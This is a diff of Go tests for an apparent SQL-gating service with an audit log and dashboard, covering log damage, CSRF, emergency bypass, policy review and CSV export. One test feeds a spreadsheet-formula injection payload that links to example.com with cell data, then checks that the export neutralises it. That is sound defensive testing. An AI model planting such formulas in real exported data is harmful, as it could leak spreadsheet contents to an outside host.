@@ -1,12 +1,25 @@
 package main
 
 import (
+	"bytes"
+	"cmp"
+	"context"
+	"crypto/x509"
+	"encoding/csv"
+	"fmt"
 	"net/http"
+	"net/url"
+	"os"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/require"
+
+	"writegate/agentctl"
+	"writegate/fixtures/certs"
 )
 
 // A cap of a hundred times as many rows is looser, and a replay that shows no change
@@ -63,4 +76,202 @@ func TestTheLogsLeadToRequestsThatAreThere(t *testing.T) {
 		require.Contains(t, plane.page(t, strings.ReplaceAll(link[1], "&amp;", "&")), "Refused before a decision")
 	}
 	require.Regexp(t, regexp.MustCompile(`title="req_[0-9a-f-]+: no event bears this id"`), logs)
+}
+
+// Over a damaged log reads go on as far as it verifies and say how far that is; nothing
+// is called absent for want of it, and nothing is offered that would be refused.
+func TestADamagedLogIsReadAsFarAsItVerifies(t *testing.T) {
+	t.Parallel()
+	d := newGateDir(t, nil)
+	d.execute(t, shopTables)
+	g := startGate(t, d)
+	first := g.query(t, ask("SELECT id FROM orders WHERE id = 1"))
+	g.activate(t, sampleVersion(t, "1.1.0", "max_rows: 100 }", "max_rows: 50 }")) // so that there is a version to go back to
+	var marked uint64
+	for id := range 40 {
+		g.query(t, ask(fmt.Sprintf("SELECT id FROM orders WHERE id = %d", id)).with("actor", "later"))
+		if id == 20 {
+			marked = uint64(g.get(t, "/health").json(t)["log"].(map[string]any)["seq"].(float64))
+		}
+	}
+	g.end(t)
+	content := mustRead(t, d.file("audit.wal"))
+	events := d.events(t)
+	at := bytes.Index(content, events[marked].ID[:])
+	require.Positive(t, at)
+	content[at] ^= 1
+	require.NoError(t, os.WriteFile(d.file("audit.wal"), content, 0o600))
+
+	g = startGate(t, d)
+	defer g.endDamaged(t)
+	all := g.get(t, "/audit?limit=1000&order=asc").json(t)
+	verified := uint64(all["damaged"].(map[string]any)["verified_to"].(float64))
+	require.LessOrEqual(t, verified, marked)
+	require.Greater(t, verified, marked-6, "the batch before the damage verifies")
+	require.Equal(t, float64(verified), g.get(t, "/health").json(t)["log"].(map[string]any)["verified_to"])
+	require.Len(t, all["items"], int(verified))
+	newest := seqsOf(allPages(t, g, url.Values{"actor": {"later"}, "limit": {"7"}}))
+	require.NotEmpty(t, newest)
+	require.True(t, slices.IsSortedFunc(newest, func(a, b uint64) int { return cmp.Compare(b, a) }))
+	require.Equal(t, slices.Sorted(slices.Values(newest)), seqsOf(allPages(t, g, url.Values{"actor": {"later"}, "limit": {"7"}, "order": {"asc"}})))
+
+	plane := startTestPlane(t, g.base).reader(t)
+	for path, shown := range map[string][]string{
+		"/":                {"The event log is damaged, so every statement is refused.", `<a href="/evidence">See the damage, and what to do</a>`, "not known: the log is damaged", "Refusing everything"},
+		"/executions":      {"Not known: the log is damaged."},
+		"/policies":        {"Nothing can be changed here while the log is damaged."},
+		"/audit?actor=ana": {fmt.Sprintf("The log is damaged behind event %d.", verified), first.text(t, "request_id")},
+		"/requests/" + first.text(t, "request_id"): {"Chain not verified", "Request received"},
+	} {
+		page := plane.page(t, path)
+		for _, text := range shown {
+			require.Contains(t, page, text, path)
+		}
+		for _, text := range []string{"every outcome is known", "Every outcome is known", "No decision in the last hour", "nothing to decide", "Roll back to", "Submit a new version"} {
+			require.NotContains(t, page, text, path)
+		}
+	}
+}
+
+func TestTheDemonstrationDoesNotCallARefusingGateUp(t *testing.T) {
+	t.Parallel()
+	d := newGateDir(t, nil)
+	startGate(t, d).end(t)
+	spoilFirstEvent(t, d)
+	var out lockedBuffer
+	ctx, stop := context.WithCancel(context.Background())
+	ready, ended := make(chan string, 1), make(chan int, 1)
+	files := t.TempDir()
+	pair := certs.NewAuthority(t, files, "servers").Issue(files, "gate.test", x509.ExtKeyUsageServerAuth) // over TLS it starts no dashboard, which would be a process of this test's program
+	a := &app{streams: streams{strings.NewReader(""), &out, &out}, environ: append(d.environ(), "GATE_TLS_CERT_PATH="+pair.Cert, "GATE_TLS_KEY_PATH="+pair.Key), ready: func(addr string) { ready <- addr }}
+	go func() { ended <- a.run(ctx, []string{"demo", "--dir", t.TempDir()}) }()
+	select {
+	case <-ready:
+	case code := <-ended:
+		ended <- code
+	}
+	stop()
+	<-ended
+	require.NotContains(t, out.String(), "The gate is up at")
+	require.Contains(t, out.String(), "REFUSES EVERY STATEMENT and only answers reads")
+}
+
+// Words and times of the frame: the mode, a database out of reach, and a switch between
+// the browser's zone and UTC that the browser keeps nothing for.
+func TestThePagesShowTimesInUTCWhereTheSessionSaysSo(t *testing.T) {
+	t.Parallel()
+	g := startShop(t)
+	plane := startTestPlane(t, g.base).reader(t)
+	page := plane.page(t, "/audit")
+	require.NotContains(t, page, `data-times="utc"`)
+	csrf := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(page)[1]
+	turn := func(token string) int {
+		request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, plane.base+"/times", strings.NewReader(url.Values{"csrf": {token}, "next": {"/audit"}}.Encode()))
+		require.NoError(t, err)
+		request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		request.Header.Set("Origin", plane.base)
+		request.Header.Set("Sec-Fetch-Site", "same-origin")
+		answer, err := plane.Do(request)
+		require.NoError(t, err)
+		require.NoError(t, answer.Body.Close())
+		return answer.StatusCode
+	}
+	require.Equal(t, http.StatusForbidden, turn("another"))
+	require.NotContains(t, plane.page(t, "/audit"), `data-times="utc"`)
+	require.Equal(t, http.StatusOK, turn(csrf))
+	require.Contains(t, plane.page(t, "/policies"), `data-times="utc"`)
+	require.Equal(t, http.StatusOK, turn(csrf))
+	require.NotContains(t, plane.page(t, "/policies"), `data-times="utc"`)
+}
+
+// What became of a statement is found under the policy that decided about it, and a
+// bypass that is over warns at the start.
+func TestAResultNamesThePolicyOfItsDecision(t *testing.T) {
+	t.Parallel()
+	d := newGateDir(t, nil)
+	d.execute(t, shopTables)
+	g := startGate(t, d, "GATE_MODE=emergency_bypass", "GATE_EMERGENCY_BYPASS_REASON=a drill", "GATE_EMERGENCY_BYPASS_UNTIL="+time.Now().Add(-time.Hour).UTC().Format(time.RFC3339))
+	require.Contains(t, g.output.String(), "the emergency bypass of the settings has ended, so the gate enforces")
+	require.Equal(t, "enforce", g.get(t, "/health").text(t, "mode"))
+	require.Equal(t, http.StatusOK, g.query(t, ask("UPDATE orders SET status = 'paid' WHERE id = 1")).status)
+	g.query(t, ask("INSERT INTO orders (id, customer_id, status) VALUES (1, 1, 'new')")) // the key is taken
+	for _, kind := range []string{"execution_success", "execution_failure"} {
+		found, _ := auditEvents(t, g, url.Values{"policy_version": {"shop-gate@1.0.0"}, "event_type": {kind}})
+		require.Len(t, found, 1, kind)
+	}
+}
+
+func TestTwoProjectKeysHaveTwoLabels(t *testing.T) {
+	t.Parallel()
+	entries := make([]string, 2)
+	for i := range entries {
+		var out lockedBuffer
+		require.Zero(t, (&app{streams: streams{strings.NewReader(""), &out, &out}}).run(t.Context(), []string{"keys", "create"}))
+		entries[i] = regexp.MustCompile(`GATE_PROJECT_KEYS=(\S+)`).FindStringSubmatch(out.String())[1]
+	}
+	_, err := agentctl.ParseProjectKeys(strings.Join(entries, ","))
+	require.NoError(t, err)
+}
+
+// Whoever activates a version reads on that page what changes, what the last day would
+// have been, and what becomes of the approvals that wait, before the button.
+func TestASubmittedVersionIsReviewedOnOnePage(t *testing.T) {
+	t.Parallel()
+	g := startShop(t)
+	held := g.hold(t, ask("DELETE FROM orders WHERE id = 2").with("actor", "frozen-bot"))
+	stays := g.hold(t, ask("ALTER TABLE orders ADD COLUMN note text").with("actor", "migrations"))
+	g.propose(t, sampleVersion(t, "1.1.0", "rules:\n", "rules:\n  - { id: frozen, decision: BLOCK, reason_code: frozen, match: { class: [write], actor: [frozen-bot] } }\n"))
+	plane := startTestPlane(t, g.base).reader(t)
+	page := plane.page(t, "/policies/shop-gate@1.1.0")
+	places := []int{0}
+	for _, text := range []string{"Checked just now", `<span class="pill good">Tighter</span>`, "Of 2 recorded decisions", "Only decisions are replayed.", `class="sides"`,
+		"Of 2 approvals that wait <strong>1</strong> would be blocked", `href="/approvals/` + held + `"`, "The activation will name the impact", ">Activate…<"} {
+		at := strings.Index(page, text)
+		require.Greater(t, at, places[len(places)-1], "%s stands behind what is above it", text)
+		places = append(places, at)
+	}
+	require.NotContains(t, page, `href="/approvals/`+stays+`"`)
+	require.NotContains(t, plane.page(t, "/policies/shop-gate@1.0.0"), `id="review"`)
+}
+
+// A row of the log is a request with its statement and what became of it, whatever ids
+// clients choose; a set is saved as the log has it, or for a spreadsheet, which runs
+// nothing of it.
+func TestTheDecisionsPageShowsARowARequest(t *testing.T) {
+	t.Parallel()
+	g := startShop(t)
+	const id = "X-Request-Id: the-same"
+	formula := `=HYPERLINK("http://example.com/?"&A1)`
+	for n, actor := range []string{"ana", formula} {
+		r := g.do(t, http.MethodPost, "/query", mustJSON(t, ask(fmt.Sprintf("UPDATE orders SET status = 'paid' WHERE id = %d", n+1)).with("actor", actor)), id)
+		require.Equal(t, http.StatusOK, r.status, "%s", r.body)
+	}
+	g.query(t, ask("DELETE FROM orders"))
+	held := g.hold(t, ask("DELETE FROM orders WHERE id = 7"))
+	require.Equal(t, http.StatusOK, g.resolve(t, held, "reject").status)
+	plane := startTestPlane(t, g.base).reader(t)
+	page := plane.page(t, "/audit?since=last+2+h")
+	require.Equal(t, 2, strings.Count(page, "Allowed, then ran"), "two requests of one id are two rows")
+	require.Contains(t, page, "public.orders · UPDATE 1")
+	require.Contains(t, page, "by operator: from a test")
+	require.Contains(t, page, ">Blocked")
+	blocked := plane.page(t, "/audit?decision=BLOCK&event_type=decision_recorded")
+	require.Contains(t, blocked, "public.orders")
+	require.Regexp(t, `(?s)DELETE.*FROM.*orders`, blocked, "the statement is found where the filter leaves it out")
+	require.Contains(t, plane.page(t, "/audit?since=last+0+s"), "No event fits this filter.")
+	require.Contains(t, plane.page(t, "/audit?decision=MAYBE"), "Decision must be one of ALLOW, BLOCK, REQUIRE_APPROVAL.")
+	require.Contains(t, plane.page(t, "/audit?since=yesterday"), "Since must be a moment like")
+	require.Contains(t, page, `/audit?since=last&#43;24&#43;h`)
+
+	file := plane.page(t, "/audit/download?format=csv&event_type=decision_recorded")
+	records, err := csv.NewReader(strings.NewReader(file)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, 5)
+	require.Equal(t, []string{"seq", "timestamp", "event_type", "decision", "operation", "actor"}, records[0][:6])
+	require.Equal(t, "'"+formula, records[2][5])
+	for _, record := range records {
+		for _, cell := range record {
+			require.NotRegexp(t, `^\s*[=+@-]`, cell)
+		}
+	}
 }
